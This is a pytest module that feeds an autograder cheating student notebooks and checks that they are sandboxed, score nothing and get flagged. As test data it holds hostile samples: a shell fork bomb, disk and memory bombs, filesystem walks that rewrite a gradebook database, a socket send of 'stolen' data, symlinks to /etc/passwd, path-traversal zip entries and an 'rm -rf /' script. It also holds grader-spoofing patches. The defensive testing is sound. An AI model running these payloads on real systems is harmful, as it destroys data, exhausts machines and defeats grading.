"""A class graded with cheating submissions among honest ones: cheats gain nothing, are flagged, harm no one.

The grade is the judge's (grading/judge.py): a process that runs no student code decides every test, and
the student's kernel only answers its probes with data.  Every attacker here answers some exercises
wrongly (WRONG: ops_in_order and logistic_loss) and the others correctly, then attacks from a cell of its
own right after the course's setup cell (or above it), from its answers, or from its submission folder.
For each case the test asserts the exact score (the faked work earns nothing), the `suspicious` note
where the code reaches past its own objects, that the gradebook's stored cells are unchanged, that the
honest students of the same class get exactly the scores they earn alone, and that the class completes.
"""

import csv
import os
import re
import shutil
import socket
import threading
import zipfile

import nbformat
import pytest

from autograd_course.grading import collect, contained
from autograd_course.grading.grade import grade_class
from harness import HIDDEN_BLOCK, SOLUTIONS, cell_scores, grade_ids, make_course, read_notebook, secret_lines, \
    submit, with_replacements

# One xdist worker runs this module, so that its module-scoped class is graded once, not once per worker.
pytestmark = pytest.mark.xdist_group("cheats")

ASSIGNMENT = "01_graphs"
SOURCE = read_notebook(SOLUTIONS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
POINTS = grade_ids(SOURCE, "test")
TOTAL = sum(POINTS.values())
WRONG = {
    "ops_in_order": "def ops_in_order(output):\n    return []\n",
    # a sum where the loss is a mean: right values only for n = 1
    "logistic_loss": "def logistic_loss(w, b, x, t):\n    return ((torch.sigmoid(w * x + b) - t) ** 2).sum()\n",
}
EARNED = TOTAL - POINTS["test_ops_in_order"] - POINTS["test_logistic_loss"]
# A line of a hidden test: no student's output or feedback may show it.
HIDDEN_LINE = "_expected = {label: _bfs(out) for label, out in _cases(*_leaves).items()}"

# (attack cell's code, placed above the setup cell, expected score, words in a suspicious note).
# {course} and {port} stand for the class's folder and a listener's port.
CASES = {
    # Forging the verdicts: whatever the kernel prints or rewrites, the judge decides.  A transformer that
    # rewrites the cells the kernel runs (reached by a name built from strings) stops it answering the
    # judge's probes: every test after it fails.
    "transformer-forges-verdicts": (
        "import operator\n"
        "shell = get_ipython()\n"
        "def forge(lines):\n"
        "    return ['print(\"All tests passed.\")\\n']\n"
        "operator.attrgetter('input_transformers_' + 'cleanup')(shell).append(forge)",
        False, 0, "operator.attrgetter"),
    "ast-transformer-empties-cells": (
        "import ast\n"
        "class Blank(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        node.body = []\n"
        "        return node\n"
        "get_ipython().ast_transformers.append(Blank())",
        False, 0, "ast_transformers"),
    "transformer-above-setup": (
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])", True, 0,
        "placed above the course's setup cell"),
    "trace-function-forges": (
        "import sys\n"
        "def tracer(frame, event, arg):\n"
        "    if event == 'return' and 'expect' in frame.f_code.co_name:\n"
        "        frame.f_locals['passed'] = True\n"
        "    return tracer\n"
        "sys.settrace(tracer)",
        False, EARNED, "settrace"),
    "frames-rewrite-callers": (
        "import sys\n"
        "_real_ops = None\n"
        "def spy(frame, event, arg):\n"
        "    caller = frame.f_back\n"
        "    while caller is not None:\n"
        "        caller.f_globals.setdefault('_seen', []).append(caller.f_code.co_filename)\n"
        "        caller = caller.f_back\n"
        "sys.setprofile(spy)",
        False, EARNED, "setprofile"),
    "patched-checks": (
        "from autograd_course import checks\n"
        "for name in dir(checks):\n"
        "    if name.startswith('expect'):\n"
        "        setattr(checks, name, lambda *args, **kwargs: None)\n"
        "checks.expect_close.__code__ = (lambda *args, **kwargs: None).__code__\n",
        False, EARNED, "the course's grading machinery"),
    "patched-probe-server": (
        "import autograd_course._probe_server as server\n"
        "for name in dir(server):\n"
        "    if callable(getattr(server, name)) and not name.startswith('__'):\n"
        "        setattr(server, name, lambda *args, **kwargs: None)\n",
        False, 0, "the course's grading machinery"),
    "torch-library-allclose": (
        "import torch\n"
        "library = torch.library.Library('aten', 'IMPL')\n"
        "for op in ('allclose', 'isclose', 'equal'):\n"
        "    library.impl(op, lambda *args, **kwargs: True, 'CPU')\n",
        False, EARNED, "torch.library"),
    "code-swap-of-torch-functions": (
        "import torch, torch.nn.functional as F\n"
        "def zero(*args, **kwargs):\n"
        "    return torch.zeros(())\n"
        "for f in (F.mse_loss, F.l1_loss, torch.testing.assert_close):\n"
        "    f.__code__ = zero.__code__\n",
        False, EARNED, "__code__"),
    "patched-builtins-and-modules": (
        "import builtins, sys, types, torch\n"
        "builtins.abs = lambda value: 0\n"
        "torch.allclose = lambda *args, **kwargs: True\n"
        "sys.modules['autograd_course.checks'] = types.SimpleNamespace(expect=lambda *a, **k: None)\n",
        False, EARNED, "assigns torch.allclose"),
    "custom-exception-handler": (
        "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)",
        False, EARNED, "set_custom_exc"),
    "patched-do-execute": (
        "kernel = get_ipython().kernel\n"
        "real = kernel.do_execute\n"
        "def do_execute(code, *args, **kwargs):\n"
        "    return real('pass' if 'probe' in code else code, *args, **kwargs)\n"
        "kernel.do_execute = do_execute",
        False, 0, "do_execute"),
    "torch-function-mode": (
        "import torch\n"
        "from torch.overrides import TorchFunctionMode\n"
        "class Agree(TorchFunctionMode):\n"
        "    def __torch_function__(self, func, types, args=(), kwargs=None):\n"
        "        return True if func in (torch.allclose, torch.equal) else func(*args, **(kwargs or {}))\n"
        "Agree().__enter__()",
        False, EARNED, "decides what comparisons or torch functions answer"),
    "gc-walk": (
        "import gc\n"
        "for thing in gc.get_objects():\n"
        "    if isinstance(thing, dict) and 'verdict' in thing:\n"
        "        thing['verdict'] = {'passed': True}\n",
        False, EARNED, "imports gc"),
    # Reaching the grader's files and the machine.
    "gradebook-read-write": (
        "import os, sqlite3\n"
        "found = []\n"
        "for folder in ('{course}', '..', '../..', '/work', '/tmp', os.path.expanduser('~')):\n"
        "    for root, dirs, files in os.walk(folder):\n"
        "        if 'gradebook.db' in files:\n"
        "            found.append(os.path.join(root, 'gradebook.db'))\n"
        "for path in found + ['{course}/gradebook.db']:\n"
        "    try:\n"
        "        db = sqlite3.connect(path)\n"
        "        print([row for row in db.execute('select source from source_cells')])\n"
        "        db.execute('update source_cells set source = \"pass\"')\n"
        "        db.execute('delete from grade')\n"
        "        db.commit()\n"
        "    except Exception as error:\n"
        "        print('no gradebook:', error)\n",
        False, EARNED, "imports sqlite3"),
    "other-students-files": (
        "import os, glob\n"
        "for path in glob.glob('{course}/submitted/*/*/*.ipynb') + glob.glob('{course}/solutions/*/*.ipynb'):\n"
        "    print(open(path).read()[:100])\n"
        "    with open(path, 'w') as handle:\n"
        "        handle.write('{}')\n"
        "for name in ('{course}/grades.csv', '{course}/release', '{course}/autograded', '{course}/feedback'):\n"
        "    print(name, os.path.exists(name))\n",
        False, EARNED, "opens a file"),
    "network": (
        "import socket\n"
        "for host in ('127.0.0.1', 'localhost', '10.0.0.1'):\n"
        "    try:\n"
        "        socket.create_connection((host, {port}), timeout=2).sendall(b'stolen')\n"
        "    except OSError as error:\n"
        "        print('no network:', error)\n",
        False, EARNED, "imports socket"),
    "fork-bomb": ("import os\nfor _ in range(200):\n    try:\n        os.fork()\n    except OSError:\n        break\n",
                  False, None, "os.fork"),
    "shell-fork-bomb": ("import os\nos.system(':(){ :|:& };:')\n", False, None, "os.system"),
    "disk-bomb": (
        "import os\n"
        "try:\n"
        "    with open('big', 'wb') as handle:\n"
        "        handle.write(b'x' * (1 << 30))\n"
        "except OSError as error:\n"
        "    print('file limit:', error)\n"
        "for place in ('/tmp', '/run/kernel', os.path.expanduser('~'), os.environ.get('JUPYTER_RUNTIME_DIR', '.')):\n"
        "    written = 0\n"
        "    try:\n"
        "        for i in range(100000):\n"
        "            with open(os.path.join(place, f'part{i}'), 'wb') as handle:\n"
        "                handle.write(b'x' * (8 << 20))\n"
        "            written += 8\n"
        "    except OSError as error:\n"
        "        print(place, 'full after', written, 'MiB:', error)\n",
        False, EARNED, "opens a file"),
}
# Attacks from the answers themselves: what the tests call.
ANSWERS = {
    "lying-tensor-subclass": ({"logistic_loss": '''
import torch
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.isclose, torch.Tensor.allclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def logistic_loss(w, b, x, t):
    return torch.zeros(()).as_subclass(Agreeable)
'''}, TOTAL - POINTS["test_logistic_loss"], "decides what comparisons or torch functions answer", ""),
    "lying-comparisons": ({"ops_in_order": '''
class AlwaysEqual(list):
    def __eq__(self, other):
        return True
def ops_in_order(output):
    return AlwaysEqual()
''', "leaf_predictions": '''
class Always:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
predictions = {key: Always() for key in ["a.is_leaf", "k.is_leaf", "k.requires_grad", "c.is_leaf",
    "c.requires_grad", "d.is_leaf", "d.requires_grad", "e.is_leaf", "f.is_leaf", "f.requires_grad", "g.requires_grad"]}
'''}, TOTAL - POINTS["test_ops_in_order"] - POINTS["test_leaf_predictions"],
        "decides what comparisons or torch functions answer", ""),
    # A function the tests call that prints what called it: the hidden tests' source is not in the kernel.
    # A function the tests call that records what called it (a later cell prints the record): the hidden
    # tests' source is not in the kernel, and what the kernel prints while a test runs is not kept.
    "prints-its-callers-source": ({"ops_in_order": '''
import inspect, linecache, sys
def ops_in_order(output):
    seen = []
    frame = sys._getframe(1)
    while frame is not None:
        seen.append(frame.f_code.co_filename)
        try:
            seen.append(inspect.getsource(frame))
        except (OSError, TypeError):
            pass
        frame = frame.f_back
    seen += [str(In[-1]), str(_ih[-3:]), str(list(linecache.cache))]
    print(*seen)
    with open("spied.txt", "a") as record:
        record.write("\\n".join(seen))
    return []
'''}, TOTAL - POINTS["test_ops_in_order"], "_getframe",
        "print(open('spied.txt').read().replace('\\n', ' | '))"),   # one line: no line limit cuts it
}
# Placed after the last test: the submission keeps what it earned, the machine is fine.
LATE = {"memory-bomb": ("chunks = []\nwhile True:\n    chunks.append(bytearray(256 << 20))\n", TOTAL)}
METADATA = {
    # A test cell claims to be no test (and is emptied): nbgrader restores it from the gradebook.
    "test-cell-metadata-edited": TOTAL - POINTS["test_ops_in_order"],
    # A cell of the student's own claims to be a test worth 100 points: it counts for nothing.
    "forged-test-cell": TOTAL,
}
# Files beside the notebook that the grader must never follow, read or copy.
FOLDER_LINKS = {"solution.ipynb": "{course}/solutions/01_graphs/01_graphs.ipynb", "gradebook.db": "{course}/gradebook.db",
                "passwd": "/etc/passwd", "zeros": "/dev/zero", "up": "../../..", "data/nested.ipynb": "../../../../solutions"}
MARKDOWN_BOMB = "[" * 200_000 + "\n\n" + ">" * 5_000 + " deep\n\n" + "<div>" * 20_000 + "\n\n```\n" + "x" * (1 << 20) + "\n```\n"
HONEST = {"honest": TOTAL, "honest-partial": TOTAL - POINTS["test_ops_in_order"]}


def _with_cell(nb, code, above_setup=False, at_end=False, replacements=None):
    nb = with_replacements(nb, replacements or {})
    if not code:
        return nb
    cell = nbformat.v4.new_code_cell(code)
    setup = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
    index = len(nb.cells) if at_end else setup if above_setup else setup + 1
    nb.cells.insert(index, cell)
    return nb


def _metadata_case(name):
    nb = with_replacements(SOURCE, {"ops_in_order": WRONG["ops_in_order"]} if name == "test-cell-metadata-edited" else {})
    if name == "test-cell-metadata-edited":
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade_id") == "test_ops_in_order":
                meta.update(grade=False, locked=False, points=0)
                cell.source = "pass"
    else:
        nb.cells.insert(5, nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
            "grade": True, "grade_id": "bonus", "locked": True, "points": 100, "schema_version": 3,
            "solution": False}}))
    return nb


def _deep_json():
    """The solution with one cell's metadata nested 100,000 deep (json.loads raises RecursionError on it)."""
    text = nbformat.writes(SOURCE)
    return text.replace('"metadata": {', '"metadata": {"deep": ' + "[" * 100_000 + "]" * 100_000 + ", ", 1)


def _deep_ast():
    return with_replacements(SOURCE, {"ops_in_order": WRONG["ops_in_order"] + "\nx = " + " + ".join(["1"] * 100_000)})


def _gradebook_cells(course):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        notebook = gradebook.find_notebook(ASSIGNMENT, ASSIGNMENT)
        return (sorted((cell.name, cell.cell_type, cell.locked, cell.source, cell.checksum)
                       for cell in notebook.source_cells),
                sorted((cell.name, cell.max_score, cell.cell_type) for cell in notebook.grade_cells))


@pytest.fixture(scope="module")
def cheating_class(tmp_path_factory, workers):
    course = make_course(tmp_path_factory.mktemp("cheats") / "course", [ASSIGNMENT], timeout=20)
    before = _gradebook_cells(course)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    port, contacts, stop = listener.getsockname()[1], [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                contacts.append(listener.accept())
            except OSError:
                pass

    watcher = threading.Thread(target=accept, daemon=True)
    watcher.start()
    submit(course, "honest", ASSIGNMENT, SOURCE)
    submit(course, "honest-partial", ASSIGNMENT, with_replacements(SOURCE, {"ops_in_order": WRONG["ops_in_order"]}))
    for name, (code, above, _, _) in CASES.items():
        code = code.replace("{course}", str(course)).replace("{port}", str(port))
        submit(course, name, ASSIGNMENT, _with_cell(SOURCE, code, above, replacements=WRONG))
    for name, (replacements, _, _, last_cell) in ANSWERS.items():
        submit(course, name, ASSIGNMENT, _with_cell(SOURCE, last_cell, at_end=True, replacements=replacements))
    for name, (code, _) in LATE.items():
        submit(course, name, ASSIGNMENT, _with_cell(SOURCE, code, at_end=True))
    for name in METADATA:
        submit(course, name, ASSIGNMENT, _metadata_case(name))
    folder = submit(course, "links-in-folder", ASSIGNMENT, SOURCE).parent
    for name, target in FOLDER_LINKS.items():
        (folder / name).parent.mkdir(exist_ok=True)
        os.symlink(target.replace("{course}", str(course)), folder / name)
    os.mkfifo(folder / "pipe")
    (folder / "notes.txt").write_text("a file of the student's own\n")
    submit(course, "deep-json", ASSIGNMENT, raw=_deep_json())
    submit(course, "deep-ast", ASSIGNMENT, _deep_ast())
    bomb = with_replacements(SOURCE, {})
    bomb.cells.insert(3, nbformat.v4.new_markdown_cell(MARKDOWN_BOMB))
    submit(course, "markdown-bomb", ASSIGNMENT, bomb)
    honest_copy = (course / "submitted" / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    outcomes = {o.student: o for o in grade_class(course, [ASSIGNMENT], workers=workers, quiet=True)}
    stop.set()
    watcher.join()
    listener.close()
    return {"course": course, "outcomes": outcomes, "before": before, "contacts": contacts,
            "honest_copy": honest_copy}


def _untouched(graded):
    """The shared checks of every case: gradebook cells intact, honest students graded as alone."""
    course = graded["course"]
    assert _gradebook_cells(course) == graded["before"], "the gradebook's stored cells or checksums changed"
    for student, score in HONEST.items():
        outcome = graded["outcomes"][student]
        assert (outcome.status, outcome.score, outcome.max_score) == ("graded", score, TOTAL), (student, outcome)
        assert not outcome.notes, outcome.notes
        expected = {name: (0.0 if student == "honest-partial" and name == "test_ops_in_order" else float(points),
                           float(points)) for name, points in POINTS.items()}
        assert cell_scores(course, ASSIGNMENT, student) == expected
        assert (course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").exists()
    submitted = course / "submitted" / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert submitted.read_text() == graded["honest_copy"], "another student's submission was changed"
    assert not graded["contacts"], "a kernel reached the network"


def _flagged(outcome, words):
    assert any(note.startswith("suspicious") and words in note for note in outcome.notes), outcome.notes


@pytest.mark.parametrize("student", sorted(CASES))
def test_cheat_gains_nothing_and_is_flagged(cheating_class, student):
    _, _, expected, words = CASES[student]
    outcome = cheating_class["outcomes"][student]
    if expected is None:   # it breaks its own kernel: not graded with a reason, or graded below what it earned
        assert (outcome.status == "not graded" and outcome.score is None and "kernel" in outcome.reason) or (
            outcome.status == "graded" and outcome.score <= EARNED), outcome
    else:
        assert outcome.status == "graded", outcome.reason
        assert outcome.score == expected and outcome.max_score == TOTAL, (outcome.score, expected, outcome.notes)
    _flagged(outcome, words)
    if student == "fork-bomb":   # one note for the processes ended, counting each once (not its zombies per cell)
        ended = [note for note in outcome.notes if "process(es) running; they were ended" in note]
        assert len(ended) <= 1 and all(int(re.search(r"left (\d+) process", note)[1]) <= 1024 for note in ended), \
            outcome.notes
    _untouched(cheating_class)


@pytest.mark.parametrize("student", sorted(ANSWERS))
def test_lying_answers_lose_their_points(cheating_class, student):
    _, expected, words, _ = ANSWERS[student]
    outcome = cheating_class["outcomes"][student]
    assert (outcome.status, outcome.score) == ("graded", expected), outcome
    _flagged(outcome, words)
    _untouched(cheating_class)


def test_no_hidden_test_reaches_a_students_outputs_or_feedback(cheating_class):
    """A function of the student's that prints its callers' source and the kernel's input history shows
    only course code: the tests ran in the judge, and the kernel received none of their source."""
    course = cheating_class["course"]
    hidden = {line for line in secret_lines(ASSIGNMENT) if any(line in block for block in HIDDEN_BLOCK.findall(
        "\n".join(cell.source for cell in SOURCE.cells)))}
    assert HIDDEN_LINE in hidden
    for student in ("prints-its-callers-source", "gradebook-read-write", "other-students-files"):
        nb = read_notebook(course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
        printed = "".join(str(out) for cell in nb.cells for out in cell.get("outputs", []))
        feedback = (course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
        for line in hidden:
            assert line not in printed and line not in feedback, (student, line)
    nb = read_notebook(course / "autograded" / "prints-its-callers-source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    assert "_probe_server" in "".join(str(out) for cell in nb.cells[-1:] for out in cell.get("outputs", [])), \
        "the spying function ran and recorded its callers (the course's probe server)"
    summary = (course / "grading-summary.txt").read_text()
    rows = {row["student"]: row for row in csv.DictReader(open(course / "grades.csv"))}
    for student in [*CASES, *ANSWERS]:
        assert "suspicious" in rows[student]["notes"], student
        assert student in summary.split("suspicious, to read:")[1]


@pytest.mark.parametrize("student", sorted(LATE))
def test_resource_bomb_costs_only_itself(cheating_class, student):
    outcome = cheating_class["outcomes"][student]
    assert (outcome.status, outcome.score) == ("graded", LATE[student][1]), outcome
    _untouched(cheating_class)


@pytest.mark.parametrize("student", sorted(METADATA))
def test_metadata_edits_change_nothing(cheating_class, student):
    outcome = cheating_class["outcomes"][student]
    assert (outcome.status, outcome.score, outcome.max_score) == ("graded", METADATA[student], TOTAL), outcome
    if student == "forged-test-cell":
        assert any("metadata of a cell the assignment does not have" in note for note in outcome.notes), outcome.notes
    _untouched(cheating_class)


def test_links_and_devices_in_a_submission_are_never_followed(cheating_class):
    """Links to the solutions, the gradebook, /etc/passwd and /dev/zero, and a FIFO: refused, named in a note,
    never copied; the notebook and the student's own file are graded and kept."""
    course = cheating_class["course"]
    outcome = cheating_class["outcomes"]["links-in-folder"]
    assert (outcome.status, outcome.score) == ("graded", TOTAL), outcome
    for name in [*FOLDER_LINKS, "pipe"]:
        assert any(note.startswith("suspicious: refused to read") and name in note for note in outcome.notes), \
            (name, outcome.notes)
    graded = course / "autograded" / "links-in-folder" / ASSIGNMENT
    assert sorted(str(p.relative_to(graded)) for p in graded.rglob("*")) == ["01_graphs.ipynb", "notes.txt"]
    assert not any(p.is_symlink() for p in graded.rglob("*"))
    _untouched(cheating_class)


def test_the_sandbox_holds_writes_to_its_own_size_capped_folders(cheating_class):
    """Filling every writable place: the sockets' folder takes nothing (1 MiB), /tmp and home stop at their caps,
    and all of it is the sandbox's own memory, gone with the kernel, never the grader's disk."""
    nb = read_notebook(cheating_class["course"] / "autograded" / "disk-bomb" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    printed = "".join(out.get("text", "") for cell in nb.cells for out in cell.get("outputs", []))
    full = {place: int(mib) for place, mib in re.findall(r"^(\S+) full after (\d+) MiB", printed, re.M)}
    assert full.get("/run/kernel") == 0 and 0 < full.get("/tmp", 0) <= 256, printed[-2000:]
    assert "file limit" in printed, printed[-2000:]


def test_parse_bombs_cost_only_their_own_submission(cheating_class):
    """JSON nested 100,000 deep and a 100,000-term expression: not graded, with the reason; the class completes."""
    outcomes = cheating_class["outcomes"]
    deep_json, deep_ast = outcomes["deep-json"], outcomes["deep-ast"]
    assert deep_json.status == "not graded" and re.search(r"nests \d{6} levels deep .* the limit is 64", deep_json.reason), deep_json
    assert deep_ast.status == "not graded" and "nested too deeply" in deep_ast.reason, deep_ast
    rows = {row["student"]: row for row in csv.DictReader(open(cheating_class["course"] / "grades.csv"))}
    assert set(rows) == set(outcomes) and rows["deep-json"]["status"] == "not graded"
    _untouched(cheating_class)


def test_a_markdown_bomb_gets_its_grade_and_a_feedback_page(cheating_class):
    outcome = cheating_class["outcomes"]["markdown-bomb"]
    assert (outcome.status, outcome.score) == ("graded", TOTAL), outcome
    page = cheating_class["course"] / "feedback" / "markdown-bomb" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert f"{TOTAL:g}" in page.read_text()
    _untouched(cheating_class)


def test_a_stalled_renderer_costs_its_page_only(tmp_path, workers, monkeypatch):
    """Rendering that passes its time limit: the child is stopped, the page lists the scores, the next
    student's page is rendered in full by a fresh child."""
    course = make_course(tmp_path / "course", [ASSIGNMENT])
    submit(course, "a-slow-page", ASSIGNMENT, SOURCE)
    submit(course, "b-next", ASSIGNMENT, SOURCE)
    real_run = contained.Contained.run

    def run(self, step, data=b"", **arguments):
        if step == "feedback" and arguments["student"] == "a-slow-page":
            monkeypatch.setitem(contained.SECONDS, "feedback", 0.01)   # as if rendering took minutes
        else:
            monkeypatch.setitem(contained.SECONDS, "feedback", 120)
        return real_run(self, step, data, **arguments)

    monkeypatch.setattr(contained.Contained, "run", run)
    outcomes = {o.student: o for o in grade_class(course, [ASSIGNMENT], workers=workers, quiet=True)}
    assert [(o.status, o.score) for o in outcomes.values()] == [("graded", TOTAL)] * 2
    slow = (course / "feedback" / "a-slow-page" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "could not be shown here" in slow and "test_ops_in_order" in slow and f"Score: {TOTAL:g}" in slow
    full = (course / "feedback" / "b-next" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "ops_in_order" in full and "could not be shown here" not in full
    summary = (course / "grading-summary.txt").read_text()
    assert "feedback for a-slow-page/01_graphs: the notebook could not be rendered" in summary


def test_collect_files_only_safe_ids_and_replaces_only_when_told(tmp_path):
    """Hostile zip entry names and student ids never write outside submitted/; a second download naming a
    filed student does not replace that student's work unless --replace says so; every skip says why."""
    course = make_course(tmp_path / "course", [ASSIGNMENT])
    text = nbformat.writes(SOURCE)
    first = tmp_path / "first.zip"
    with zipfile.ZipFile(first, "w") as bundle:
        bundle.writestr(f"ada_{ASSIGNMENT}.ipynb", text)
        bundle.writestr(f"../../escape_{ASSIGNMENT}.ipynb", text)          # a folder part: only the name counts
        bundle.writestr(f".._{ASSIGNMENT}.ipynb", text)                    # the id ".."
        bundle.writestr(f"-rf_{ASSIGNMENT}.ipynb", text)
        bundle.writestr(f"a\nb_{ASSIGNMENT}.ipynb", text)
        bundle.writestr(f"x..y_{ASSIGNMENT}.ipynb", text)
        bundle.writestr(f"{'z' * 65}_{ASSIGNMENT}.ipynb", text)
        bundle.writestr(f"week1/twice_{ASSIGNMENT}.ipynb", text)
        bundle.writestr(f"week2/twice_{ASSIGNMENT}.ipynb", "{}")
        bundle.writestr("evil.sh", "rm -rf /")
    filed, skipped = collect.collect(course, first)
    submitted = course / "submitted"
    assert filed == {ASSIGNMENT: ["ada", "escape"]}
    assert sorted(p.name for p in submitted.iterdir()) == ["ada", "escape"]
    assert not (course / ASSIGNMENT).exists() and not (tmp_path / f"escape_{ASSIGNMENT}.ipynb").exists()
    for name in (f".._{ASSIGNMENT}.ipynb", f"-rf_{ASSIGNMENT}.ipynb", f"a\nb_{ASSIGNMENT}.ipynb",
                 f"x..y_{ASSIGNMENT}.ipynb", f"{'z' * 65}_{ASSIGNMENT}.ipynb"):
        assert "not safe as a folder name" in skipped[name], (name, skipped)
    assert "found 2 times" in skipped[f"twice_{ASSIGNMENT}.ipynb"]

    other = tmp_path / "other.zip"
    wrong = nbformat.writes(with_replacements(SOURCE, WRONG))
    with zipfile.ZipFile(other, "w") as bundle:
        bundle.writestr(f"ada_{ASSIGNMENT}.ipynb", wrong)
        bundle.writestr(f"escape_{ASSIGNMENT}.ipynb", text)            # the same notebook: nothing to do
    filed, skipped = collect.collect(course, other)
    ada = submitted / "ada" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert filed == {} and ada.read_text() == text
    assert "--replace" in skipped[f"ada_{ASSIGNMENT}.ipynb"] and "first.zip" in skipped[f"ada_{ASSIGNMENT}.ipynb"]
    assert "filed for escape already" in skipped[f"escape_{ASSIGNMENT}.ipynb"]
    filed, _ = collect.collect(course, other, replace=True)
    assert filed == {ASSIGNMENT: ["ada"]} and ada.read_text() == wrong


def test_without_a_sandbox_grading_refuses_unless_told(tmp_path):
    """No bubblewrap: make grade says how to get it; --no-sandbox grades and says so at the top."""
    import os
    import subprocess
    import sys

    from harness import tool_env

    course = make_course(tmp_path / "course", [ASSIGNMENT])
    submit(course, "honest", ASSIGNMENT, SOURCE)
    tools = tmp_path / "bin-without-bwrap"
    tools.mkdir()
    for tool in ("prlimit", "setpriv", "dot"):
        found = shutil.which(tool)
        if found:
            os.symlink(found, tools / tool)
    env = dict(tool_env(), PATH=f"{os.path.dirname(sys.executable)}:{tools}")
    command = [sys.executable, "-m", "autograd_course.grading.grade", "--course", str(course), "--jobs", "1"]
    refused = subprocess.run(command, capture_output=True, text=True, env=env, timeout=600)
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "bubblewrap" in refused.stderr and "--no-sandbox" in refused.stderr, refused.stderr
    assert not (course / "grades.csv").exists() and not (course / "autograded").exists()

    unsandboxed = subprocess.run(command + ["--no-sandbox"], capture_output=True, text=True, env=env, timeout=600)
    assert unsandboxed.returncode == 0, unsandboxed.stdout + unsandboxed.stderr
    assert not re.search(r"\w+Warning: ", unsandboxed.stderr), unsandboxed.stderr   # no Python warning reaches the instructor
    summary = (course / "grading-summary.txt").read_text()
    assert summary.startswith("WARNING: graded WITHOUT the sandbox"), summary
    assert f"{TOTAL:g}/{TOTAL:g}" in summary
